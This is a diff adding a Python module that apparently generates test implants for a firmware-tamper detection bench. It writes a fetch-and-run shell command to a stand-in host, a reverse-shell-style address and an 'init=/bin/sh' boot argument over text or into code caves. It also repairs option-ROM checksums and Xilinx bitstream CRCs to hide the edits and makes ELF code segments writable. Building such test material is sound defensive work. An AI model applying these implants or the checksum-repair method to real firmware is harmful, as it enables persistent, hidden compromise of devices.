@@ -1,0 +1,187 @@
+"""Implants that the bench puts into genuine images, by kind; *mended* ones repair the sums of the format afterwards.
+
+A kind returns None where it does not apply: a mended patch needs a format whose sums are known here.
+"""
+
+import re
+import struct
+from collections.abc import Callable
+from random import Random
+
+import numpy as np
+
+from mumetal.core.firmware import FirmwareImage
+from mumetal.scan.firmware import xilinx, xilinx_crc
+
+Implant = Callable[[bytes, FirmwareImage, Random], bytes | None]
+COMMAND = b"/bin/sh -c wget -qO- http://203.0.113.7/p | sh &\0"
+ADDRESS = b"203.0.113.9:4444\0"
+BOOT = b"init=/bin/sh console=null\0"
+CERTIFICATE = bytes.fromhex("3082020030820169a003020102") + bytes(range(256)) + bytes(251)
+
+
+def version_key(text: str) -> list[tuple[int, int, str]]:
+    """Order versions by their numbers."""
+    return [(1, int(p), "") if p.isdigit() else (0, 0, p) for p in re.findall(r"\d+|[a-z~]+", text)]
+
+
+def payload(data: bytes, chance: Random, size: int) -> bytes:
+    """Bytes of the image itself, scrambled with one byte: statistics that belong there, content that does not."""
+    start = chance.randrange(max(1, len(data) // 2))
+    for _ in range(50):
+        start = chance.randrange(max(1, len(data) - size))
+        if len(set(data[start : start + size])) > 20:
+            break
+    key = chance.randrange(1, 256)
+    return bytes(b ^ key for b in data[start : start + size])
+
+
+def cave(data: bytes, chance: Random, size: int) -> int | None:
+    """A place inside the longest runs of equal filling, away from both ends of the run."""
+    runs = [m.span() for m in re.finditer(rb"\x00{%d,}|\xff{%d,}" % (size + 128, size + 128), data)]
+    if not runs:
+        return None
+    start, stop = chance.choice(sorted(runs, key=lambda s: s[0] - s[1])[:5])
+    return chance.randrange(start + 64, stop - size - 63)
+
+
+def place(data: bytes, at: int, body: bytes) -> bytes:
+    """Overwrite, keeping the length."""
+    return data[:at] + body + data[at + len(body) :]
+
+
+def appended(data: bytes, _image: FirmwareImage, chance: Random) -> bytes:
+    return data + payload(data, chance, 2_048)
+
+
+def in_cave(data: bytes, _image: FirmwareImage, chance: Random) -> bytes | None:
+    at = cave(data, chance, 512)
+    return None if at is None else place(data, at, payload(data, chance, 512))
+
+
+def in_cave_mended(data: bytes, image: FirmwareImage, chance: Random) -> bytes | None:
+    evil = in_cave(data, image, chance)
+    return None if evil is None else mend(evil, image)
+
+
+def patch(data: bytes, image: FirmwareImage, chance: Random) -> bytes | None:
+    regions = [
+        r for r in image.regions if r.kind in {"code", "frames", "content"} and not r.parent and r.stop - r.start > 256
+    ]
+    if not regions:
+        return None
+    region = chance.choice(regions)
+    at = chance.randrange(region.start + 64, region.stop - 128)
+    return place(data, at, payload(data, chance, 64))
+
+
+def patch_mended(data: bytes, image: FirmwareImage, chance: Random) -> bytes | None:
+    evil = patch(data, image, chance)
+    return None if evil is None or image.format == "uefi" else mend(evil, image)
+
+
+def over_text(body: bytes) -> Implant:
+    """Over a long text (a help page), or in a cave where there is none; sums mended where they can be."""
+
+    def make(data: bytes, image: FirmwareImage, chance: Random) -> bytes | None:
+        if image.format.startswith("xilinx"):
+            at = cave(data, chance, len(body))
+        else:
+            runs = [m.start() for m in re.finditer(rb"[ -~]{%d,}" % (len(body) + 8), data)]
+            at = chance.choice(runs) + 4 if runs else cave(data, chance, len(body))
+        if at is None:
+            return None
+        evil = place(data, at, b"\0" + body)
+        return mend(evil, image) or evil
+
+    return make
+
+
+def mend(data: bytes, image: FirmwareImage) -> bytes | None:
+    """Repair the sums that the format carries; None for formats whose sums are not repaired here."""
+    if image.format == "option-rom":
+        return _mend_rom(data, image)
+    if image.format.startswith("xilinx"):
+        return _mend_bitstream(data, image)
+    return data if image.format in {"raw", "elf", "uefi"} else None
+
+
+def _mend_rom(data: bytes, image: FirmwareImage) -> bytes:
+    rom = bytearray(data)
+    for region in image.regions:
+        if region.name.endswith("-x86") and not region.parent:
+            stop = min(region.start + rom[region.start + 2] * 512, region.stop)
+            rom[stop - 1] = (rom[stop - 1] - sum(rom[region.start : stop])) & 0xFF
+    return bytes(rom)
+
+
+def _mend_bitstream(data: bytes, image: FirmwareImage) -> bytes:
+    """Replay the writes and put the CRC that comes out where one is carried; frame ECCs are cleared, as some tools do."""
+    region = next(r for r in image.regions if r.name.startswith("commands"))
+    swapped = ("byte-order", "swapped") in image.facts
+    order = "<" if swapped else ">"
+    count = (len(data) - region.start - 4) // 4
+    words = np.frombuffer(data, f"{order}u4", count, region.start + 4).astype(np.uint32)
+    out, at, address, crc = bytearray(data), 0, 0, 0
+    while at < words.size:
+        header = int(words[at])
+        kind, operation = header >> 29, header >> 27 & 3
+        address = header >> 13 & 0x1F if kind == 1 else address
+        length = (header & 0x7FF if kind == 1 else header & 0x7FFFFFF) if kind in {1, 2} and operation == 2 else 0
+        block = words[at + 1 : at + 1 + length]
+        place_at = region.start + 4 + 4 * (at + 1)
+        if address == xilinx.CRC and length:
+            struct.pack_into(f"{order}I", out, place_at, crc)
+            crc = 0
+        elif length:
+            if (
+                address == xilinx.FDRI
+                and not block.size % 101
+                and any(k == "idcode" and t[:2] == "03" for k, t in image.facts)
+            ):
+                block = _clear_ecc(block, out, place_at, order)
+            crc = xilinx_crc.run(crc, block, address)
+            if address == xilinx.CMD:
+                if int(block[0]) == xilinx.RCRC:
+                    crc = 0
+                if int(block[0]) == xilinx.DESYNC:
+                    break
+        at += 1 + length
+    return bytes(out)
+
+
+def _clear_ecc(block: np.ndarray, out: bytearray, at: int, order: str) -> np.ndarray:
+    block = block.copy()
+    for frame in xilinx_crc.broken_frames_7(block):
+        index = int(frame) * 101 + 50
+        block[index] &= np.uint32(0xFFFFE000)
+        struct.pack_into(f"{order}I", out, at + 4 * index, int(block[index]))
+    return block
+
+
+def wider_rights(data: bytes, image: FirmwareImage, _chance: Random) -> bytes | None:
+    """Make every executable segment of an ELF writable."""
+    if image.format != "elf" or data[4] != 2 or data[5] != 1:
+        return None
+    out = bytearray(data)
+    (start,) = struct.unpack_from("<Q", data, 32)
+    size, count = struct.unpack_from("<HH", data, 54)
+    for index in range(count):
+        kind, flags = struct.unpack_from("<II", data, start + index * size)
+        if kind == 1 and flags & 1:
+            struct.pack_into("<I", out, start + index * size + 4, flags | 2)
+    return bytes(out)
+
+
+KINDS: dict[str, Implant] = {
+    "appended": appended,
+    "cave": in_cave,
+    "cave-mended": in_cave_mended,
+    "patch": patch,
+    "patch-mended": patch_mended,
+    "command": over_text(COMMAND),
+    "address": over_text(ADDRESS),
+    "boot-argument": over_text(BOOT),
+    "certificate": over_text(CERTIFICATE),
+    "wider-rights": wider_rights,
+}
